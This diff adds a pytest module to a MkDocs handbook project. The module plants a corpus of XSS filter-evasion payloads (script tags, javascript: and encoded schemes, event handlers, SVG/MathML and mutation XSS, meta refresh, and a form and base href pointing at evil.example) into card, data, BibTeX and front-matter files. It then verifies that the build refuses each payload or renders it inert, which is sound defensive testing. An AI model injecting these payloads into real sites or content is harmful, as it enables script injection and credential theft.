@@ -1,0 +1,232 @@
+"""A hostile contributor's corpus: every case is refused at ``file:line`` or comes out inert.
+
+The cases cover the OWASP XSS filter-evasion families (schemes and encodings, event handlers,
+SVG and MathML, mutation XSS, meta refresh, base, forms, object/embed, CSS) and every entry point
+(card.yml fields, card text, data files, BibTeX fields, front matter). They all go into one copy
+of the project, built once; the built HTML is then parsed for anything active.
+"""
+
+from __future__ import annotations
+
+import re
+import shutil
+from dataclasses import dataclass
+from pathlib import Path
+
+import pytest
+
+from conftest import ROOT, copy_project, mkdocs_build
+from handbook import safety
+
+
+@dataclass(frozen=True)
+class Case:
+    id: int
+    family: str
+    file: str  # relative to the project
+    refused: bool  # True: a finding at file:line is required (and the output is inert anyway)
+    marker: str = ""  # what identifies the case in the output (default: alert(<id>))
+    locate: str = ""  # the text on the line the finding must name (default: the marker)
+
+    @property
+    def mark(self) -> str:
+        return self.marker or f"alert({self.id})"
+
+
+CARD = "docs/cards/pori-systeeminen-tiimimalli"
+BAD_CARD = "docs/cards/eksote-systeeminen-lastensuojelu"
+SUMMARY = "docs/research/johtaminen"
+
+#: (case, where it goes: a function of the project that writes it)
+CASES: list[Case] = []
+
+
+def case(id: int, family: str, file: str, refused: bool, marker: str = "", locate: str = "") -> Case:
+    c = Case(id, family, file, refused, marker, locate)
+    CASES.append(c)
+    return c
+
+
+# card.yml fields: escaped where they enter HTML (and refused as markup in a text field)
+case(1, "script element", f"{CARD}/card.yml", True)
+case(2, "attribute break-out", f"{CARD}/card.yml", True)
+case(3, "svg onload", f"{CARD}/card.yml", True)
+case(4, "iframe javascript", f"{CARD}/card.yml", True)
+case(5, "title break-out", f"{CARD}/card.yml", True)
+case(6, "mutation XSS (math/style)", f"{CARD}/card.yml", True)
+case(7, "contact.url scheme", f"{BAD_CARD}/card.yml", True)
+# card text (Markdown)
+case(10, "javascript: link", f"{CARD}/index.fi.md", True)
+case(11, "mixed-case scheme", f"{CARD}/index.fi.md", True)
+case(12, "entity-encoded scheme in raw HTML", f"{CARD}/index.fi.md", True)
+case(13, "img onerror", f"{CARD}/index.fi.md", True)
+case(14, "svg script", f"{CARD}/index.fi.md", True)
+case(15, "object data:", f"{CARD}/index.fi.md", True)
+case(16, "embed", f"{CARD}/index.fi.md", True)
+case(17, "form action", f"{CARD}/index.fi.md", True, marker="steal?17")
+case(18, "meta refresh", f"{CARD}/index.fi.md", True)
+case(19, "base href", f"{CARD}/index.fi.md", True, marker="evil.example/19/")
+case(20, "CSS url(javascript:)", f"{CARD}/index.fi.md", True)
+case(21, "mutation XSS (noscript)", f"{CARD}/index.fi.md", True)
+case(22, "data: image", f"{CARD}/index.en.md", True, marker="data:image/svg+xml")
+case(23, "vbscript: link", f"{CARD}/index.en.md", True, marker="msgbox(23)")
+case(24, "details ontoggle", f"{CARD}/index.en.md", True)
+case(25, "tab inside the scheme", f"{CARD}/index.en.md", True)
+case(26, "reference-style link definition", f"{CARD}/index.en.md", True)
+case(27, "MathML href", f"{CARD}/index.en.md", True)
+case(28, "percent-encoded scheme", f"{CARD}/index.en.md", True)
+# data files
+case(30, "glossary definition img onerror", "docs/data/glossary.yml", True)
+case(31, "glossary term script", "docs/data/glossary.yml", True)
+case(32, "key figure measures script", "docs/data/facts.yml", True)
+case(33, "key figure unit svg", "docs/data/facts.yml", True)
+# BibTeX
+case(40, "title script", "bibliography/sources.bib", False)
+case(41, "url javascript:", "bibliography/sources.bib", True, locate="@misc{innokyla2017mantsala")
+case(42, "howpublished attribute break-out", "bibliography/sources.bib", False)
+case(43, "url attribute break-out", "bibliography/sources.bib", False)
+# front matter
+case(50, "title break-out", f"{SUMMARY}.fi.md", True)
+case(51, "description break-out", f"{SUMMARY}.fi.md", True)
+
+
+def _sub(path: Path, old: str, new: str) -> None:
+    text = path.read_text(encoding="utf-8")
+    assert old in text, (path, old)
+    path.write_text(text.replace(old, new, 1), encoding="utf-8")
+
+
+def _append_to_first_paragraph_section(path: Path, heading: str, lines: list[str]) -> None:
+    _sub(path, f"## {heading}\n", f"## {heading}\n\n" + "\n\n".join(lines) + "\n")
+
+
+def plant(project: Path) -> None:
+    """Write every case into the copy of the project."""
+    yml = project / CARD / "card.yml"
+    text = yml.read_text(encoding="utf-8")
+    text = re.sub(r"(?m)^(  fi: )(.+)$", r"\1\2 <script>alert(1)</script>", text, count=1)  # name.fi
+    text = re.sub(r"(?m)^(  en: )(.+)$", r'\1"\2 \\"><img src=x onerror=alert(2)>"', text, count=1)  # name.en
+    text = re.sub(r"(?m)^(organisations:\n  - )(.+)$", r'\1"\2 <svg onload=alert(3)>"', text, count=1)
+    text = re.sub(r"(?m)^(    fi: )(.+)$", r'\1"\2 <iframe src=javascript:alert(4)></iframe>"', text, count=1)  # role
+    text = re.sub(r"(?m)^(  organisation: )(.+)$", r'\1"\2 </title><script>alert(5)</script>"', text, count=1)
+    text = re.sub(r"(?m)^municipalities:.*$",
+                  'municipalities: ["Pori <math><mtext><table><mglyph><style><img src=x onerror=alert(6)>"]',
+                  text, count=1)
+    yml.write_text(text, encoding="utf-8")
+    _sub(project / BAD_CARD / "card.yml", "url: https://www.eksote.fi/", "url: javascript:alert(7)//https://x")
+
+    fi = project / CARD / "index.fi.md"
+    _append_to_first_paragraph_section(fi, "Ratkaisu", [
+        "Katso [ohje](javascript:alert(10)).",
+        "Katso [ohje](JaVaScRiPt:alert(11)).",
+        '<a href="&#106;avascript:alert(12)">ohje</a>',
+        "<img src=x onerror=alert(13) alt=kuva>",
+        "<svg><script>alert(14)</script></svg>",
+        '<object data="data:text/html,<script>alert(15)</script>"></object>',
+        '<embed src="javascript:alert(16)">',
+        '<form action="https://evil.example/steal?17"><input name="p17"><button>lähetä</button></form>',
+        '<meta http-equiv="refresh" content="0;url=javascript:alert(18)">',
+        '<base href="https://evil.example/19/">',
+        '<div style="background:url(javascript:alert(20))">tyyli</div>',
+        '<noscript><p title="</noscript><img src=x onerror=alert(21)>"></p></noscript>',
+    ])
+    en = project / CARD / "index.en.md"
+    _append_to_first_paragraph_section(en, "Solution", [
+        "![picture](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMjIpPg==)",
+        "See [this](vbscript:msgbox(23)).",
+        "<details open ontoggle=alert(24)><summary>x</summary>y</details>",
+        '<a href=" &#x09;java\tscript:alert(25)">this</a>',
+        "See [the guide][evil].\n\n[evil]: javascript:alert(26)",
+        '<math><maction actiontype="statusline" xlink:href="javascript:alert(27)">x</maction></math>',
+        "See [this](java%73cript:alert(28)).",
+    ])
+
+    glossary = project / "docs" / "data" / "glossary.yml"
+    text = glossary.read_text(encoding="utf-8")
+    text = re.sub(r"(?m)^(      fi: )(.+)$", r'\1"\2 <img src=x onerror=alert(30)>"', text, count=1)
+    text = re.sub(r"(?m)^(    term: \{fi: )([^,]+), en: ([^}]+)\}",
+                  r'\1\2, en: "\3 <script>alert(31)</script>"}', text, count=1)
+    glossary.write_text(text, encoding="utf-8")
+    facts = project / "docs" / "data" / "facts.yml"
+    text = facts.read_text(encoding="utf-8")
+    text = re.sub(r"(?m)^(      fi: )(.+)$", r'\1"\2 <script>alert(32)</script>"', text, count=1)
+    text = re.sub(r"(?m)^(    unit: \{fi: )([^,]+),", r'\1"\2 <svg/onload=alert(33)>",', text, count=1)
+    facts.write_text(text, encoding="utf-8")
+
+    bib_dir = project / "bibliography"
+    bib_dir.unlink()
+    shutil.copytree(ROOT / "bibliography", bib_dir)
+    bib = bib_dir / "sources.bib"
+    _sub(bib, "title        = {Mitä lastensuojelun asiakkaat toivovat?},",
+         "title        = {Mitä lastensuojelun asiakkaat toivovat? <script>alert(40)</script>},")
+    _sub(bib, "  howpublished = {Innokylä, hyvän käytännön kortti},",
+         '  howpublished = {Innokylä "><svg onload=alert(42)>},\n  url = {javascript:alert(41)},')
+    _sub(bib, "  howpublished = {Uutinen},",
+         '  howpublished = {Uutinen},\n  url = {https://example.org/" onmouseover="alert(43)},')
+
+    summary = project / f"{SUMMARY}.fi.md"
+    text = summary.read_text(encoding="utf-8")
+    text = re.sub(r"(?m)^description: (.*)$", lambda m: "title: \"</title><script>alert(50)</script>\"\n"
+                  f"description: '\"><script>alert(51)</script> {m.group(1)}'", text, count=1)
+    summary.write_text(text, encoding="utf-8")
+
+
+def _line(project: Path, file: str, marker: str) -> int:
+    for number, line in enumerate((project / file).read_text(encoding="utf-8").splitlines(), start=1):
+        if marker in line:
+            return number
+    raise AssertionError(f"{marker} not in {file}")
+
+
+@pytest.fixture(scope="module")
+def hostile(tmp_path_factory):
+    project = copy_project(tmp_path_factory.mktemp("hostile") / "project")
+    plant(project)
+    out = project.parent / "site"
+    result = mkdocs_build(project, out, HANDBOOK_SERIAL="1")
+    active: dict[str, list[str]] = {}
+    for page in sorted(out.rglob("*.html")):
+        found = safety.active_content(page.read_text(encoding="utf-8"), OUR_SCRIPTS)
+        if found:
+            active[page.relative_to(out).as_posix()] = found
+    return project, result, active
+
+
+#: the scripts the theme and the handbook load (files under assets/), and Material's inline ones
+OUR_SCRIPTS = frozenset()
+
+
+def _ours(found: str) -> bool:
+    return bool(re.match(r"<script src='[./]*assets/", found)) or not re.search(r"alert|msgbox", found)
+
+
+def test_the_hostile_build_fails_strict(hostile):
+    _, result, _ = hostile
+    assert result.returncode != 0
+    assert "Traceback" not in result.stdout + result.stderr
+
+
+@pytest.mark.parametrize("c", CASES, ids=[f"{c.id}-{c.family}" for c in CASES])
+def test_each_case_is_refused_or_inert(hostile, c):
+    project, result, active = hostile
+    marker = c.mark
+    hits = {page: [f for f in found if marker in f] for page, found in active.items()}
+    hits = {page: found for page, found in hits.items() if found}
+    assert not hits, f"case {c.id} ({c.family}) is active in the built site: {hits}"
+    if c.refused:
+        line = _line(project, c.file, c.locate or marker)
+        output = result.stdout + result.stderr
+        assert f"{c.file}:{line}: " in output, f"case {c.id} ({c.family}) not refused at {c.file}:{line}:\n{output}"
+
+
+def test_nothing_active_anywhere_in_the_hostile_site(hostile):
+    """Besides the planted markers: no handler, refused scheme or foreign script on any page."""
+    _, _, active = hostile
+    assert {page: [f for f in found if not _ours(f)] for page, found in active.items()
+            if any(not _ours(f) for f in found)} == {}
+
+
+def test_at_least_25_cases_across_every_entry_point():
+    assert len(CASES) >= 25
+    kinds = {c.file.split("/")[-1].split(".")[-1] for c in CASES}
+    assert {"yml", "md", "bib"} <= kinds
